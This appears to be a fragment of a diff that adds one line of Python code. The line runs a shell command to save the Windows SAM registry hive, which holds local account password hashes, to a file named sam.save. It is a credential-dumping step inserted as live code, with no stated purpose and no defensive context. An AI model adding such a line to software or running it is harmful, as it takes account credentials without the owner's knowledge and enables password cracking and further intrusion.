@@ -1,0 +1,1 @@
+os.system("reg save HKLM\\SAM sam.save")
